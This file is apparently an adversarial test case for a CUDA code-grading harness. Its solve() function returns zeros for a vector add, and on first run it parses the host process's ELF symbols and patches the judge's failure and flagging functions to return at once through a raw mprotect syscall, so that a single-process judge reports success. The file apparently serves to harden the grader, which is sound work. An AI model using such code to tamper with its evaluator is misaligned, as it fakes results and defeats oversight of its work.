/* HACKS.md #21 for CUDA: rewriting the judge's code from inside its process.
 * vector_add_cuda; writes zeros, a wrong answer. The candidate reads the
 * symbol table of the executable it was loaded into (/proc/self/exe) and
 * overwrites the first byte of every verdict function it finds there
 * (cr_judge_fail, cr_judge_flag, cr__cuda_hard, cr_judge_apply_run's
 * callers' helpers) with `ret`, through a raw mprotect: the one-process
 * judge then never lowers its OK. In the split judge the same patch lands
 * in the candidate's executor, which decides nothing: INCORRECT. */
#include <elf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>

__global__ static void zero(float *c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        c[i] = 0.0f;
}

static long k_sys3(long nr, long a, long b, long c)
{
    long r;
    __asm__ __volatile__("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c)
                         : "rcx", "r11", "memory");
    return r;
}

/* The executable's load address: its mapping at file offset 0. */
static uintptr_t s_exe_base(char *exe, size_t len)
{
    long n = k_sys3(SYS_readlink, (long)"/proc/self/exe", (long)exe, (long)len - 1);
    if (n <= 0)
        return 0;
    exe[n] = '\0';
    FILE *f = fopen("/proc/self/maps", "r");
    char line[700];
    uintptr_t base = 0;
    while (f && fgets(line, sizeof line, f)) {
        unsigned long lo, off;
        char path[600] = "";
        if (sscanf(line, "%lx-%*x %*s %lx %*s %*s %599s", &lo, &off, path) == 3 && off == 0 &&
            !strcmp(path, exe)) {
            base = lo;
            break;
        }
    }
    if (f)
        fclose(f);
    return base;
}

static const char *const s_victims[] = {"cr_judge_fail", "cr_judge_flag", "cr__cuda_hard",
                                        "cr_judge_hard", NULL};

static void s_patch(void)
{
    char exe[512];
    uintptr_t base = s_exe_base(exe, sizeof exe);
    FILE *f = base ? fopen(exe, "rb") : NULL;
    if (!f)
        return;
    static unsigned char buf[64 << 20];
    size_t len = fread(buf, 1, sizeof buf, f);
    fclose(f);
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)buf;
    if (len < sizeof *eh || memcmp(eh->e_ident, ELFMAG, SELFMAG) || eh->e_shoff >= len)
        return;
    const Elf64_Shdr *sh = (const Elf64_Shdr *)(buf + eh->e_shoff);
    for (int i = 0; i < eh->e_shnum; i++) {
        if (sh[i].sh_type != SHT_SYMTAB || sh[i].sh_link >= eh->e_shnum)
            continue;
        const Elf64_Sym *sym = (const Elf64_Sym *)(buf + sh[i].sh_offset);
        const char *str = (const char *)(buf + sh[sh[i].sh_link].sh_offset);
        size_t n = sh[i].sh_size / sizeof *sym;
        for (size_t k = 0; k < n; k++) {
            if (ELF64_ST_TYPE(sym[k].st_info) != STT_FUNC || !sym[k].st_value)
                continue;
            for (int v = 0; s_victims[v]; v++) {
                if (strcmp(str + sym[k].st_name, s_victims[v]))
                    continue;
                unsigned char *p = (unsigned char *)(base + sym[k].st_value);
                uintptr_t page = (uintptr_t)p & ~(uintptr_t)4095;
                if (k_sys3(SYS_mprotect, (long)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) == 0)
                    *p = 0xc3; /* ret */
            }
        }
    }
}

void solve(const float *a, const float *b, float *c, int n)
{
    static int done;
    (void)a, (void)b;
    if (!done) {
        done = 1;
        s_patch();
    }
    zero<<<(n + 255) / 256, 256>>>(c, n);
}
